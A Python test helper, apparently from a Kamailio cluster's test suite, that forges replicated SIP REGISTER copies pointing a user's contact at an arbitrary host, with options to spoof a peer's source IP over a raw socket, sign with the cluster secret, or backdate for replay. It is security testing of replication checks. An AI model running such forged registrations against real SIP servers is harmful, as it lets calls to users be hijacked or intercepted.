"""Send one copy of a REGISTER (kamailio_usrloc_replication_method
register_copy: how the nodes pass on the REGISTERs they accepted) to a node,
as a host that wants to plant a registration without the user's password
would: the user's contact pointed at CONTACT_HOST.

    register_copy_send.py DEST_IP DEST_PORT USER CONTACT_HOST SOCKET
        [--spoof PEER_IP] [--secret SECRET] [--age SECONDS]

--spoof sends it with a peer's address as its source (a raw socket: root),
which a host on the same network can do over UDP; --secret signs it as a
node would (route[COPY_SIGNATURE]), which only a holder of the cluster's
secret can; --age dates it that far back (a replay). A node stores a copy without answering it, so nothing is read
back here: the test asks the nodes what they hold.
"""
import argparse
import hashlib
import random
import socket
import struct
import time

SIP_PORT = 5060


def signature(secret, call_id, cseq, to_uri, contact, expires, received, stamp):
    # route[COPY_SIGNATURE] of the Kamailio config, field for field.
    signed = ":".join((secret, call_id, cseq, to_uri, contact, expires, received, stamp, secret))
    return hashlib.sha256(signed.encode()).hexdigest()[:24]


def request(dest, port, local, user, contact_host, sock, secret, age):
    call_id = "copy-%08x@%s" % (random.getrandbits(32), local[0])
    to_uri = "sip:%s@%s" % (user, dest)
    contact = "<sip:%s@%s:5099>" % (user, contact_host)
    stamp = str(int(time.time()) - age)
    # Without the secret the forger signs with a guess; with it, as a node.
    sig = signature(secret, call_id, "1", to_uri, contact, "600", "", stamp) if secret else "%024x" % random.getrandbits(96)
    return (
        "REGISTER sip:%s:%d SIP/2.0\r\n"
        "Via: SIP/2.0/UDP %s:%d;branch=z9hG4bK-copy-%08x\r\n"
        "From: <%s>;tag=%08x\r\n"
        "To: <%s>\r\n"
        "Call-ID: %s\r\n"
        "CSeq: 1 REGISTER\r\n"
        "Max-Forwards: 70\r\n"
        "Contact: %s\r\n"
        "Expires: 600\r\n"
        "X-Sipha-Copy: t=%s;sg=%s\r\n"
        "X-Sipha-Socket: %s\r\n"
        "Content-Length: 0\r\n\r\n"
        % (dest, port, local[0], local[1], random.getrandbits(32), to_uri, random.getrandbits(32), to_uri, call_id,
           contact, stamp, sig, sock)
    )


def spoofed_datagram(source, dest, port, payload):
    # IPv4 header (the kernel fills in the checksum and the length) and a
    # UDP header without a checksum (allowed over IPv4).
    udp = struct.pack("!HHHH", SIP_PORT, port, 8 + len(payload), 0) + payload
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), random.getrandbits(16), 0, 64, socket.IPPROTO_UDP, 0,
                     socket.inet_aton(source), socket.inet_aton(dest))
    return ip + udp


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("dest")
    parser.add_argument("port", type=int)
    parser.add_argument("user")
    parser.add_argument("contact_host")
    parser.add_argument("socket", help="what X-Sipha-Socket names, e.g. udp:VIP:5060")
    parser.add_argument("--spoof", metavar="PEER_IP", help="send with this source address")
    parser.add_argument("--secret", help="sign as a node does")
    parser.add_argument("--age", type=int, default=0, help="seconds to date the copy back")
    args = parser.parse_args()
    if args.spoof:
        message = request(args.dest, args.port, (args.spoof, SIP_PORT), args.user, args.contact_host, args.socket,
                          args.secret, args.age)
        raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        raw.sendto(spoofed_datagram(args.spoof, args.dest, args.port, message.encode()), (args.dest, 0))
    else:
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sock.connect((args.dest, args.port))
        message = request(args.dest, args.port, sock.getsockname(), args.user, args.contact_host, args.socket,
                          args.secret, args.age)
        sock.send(message.encode())
    print("sent")


if __name__ == "__main__":
    main()
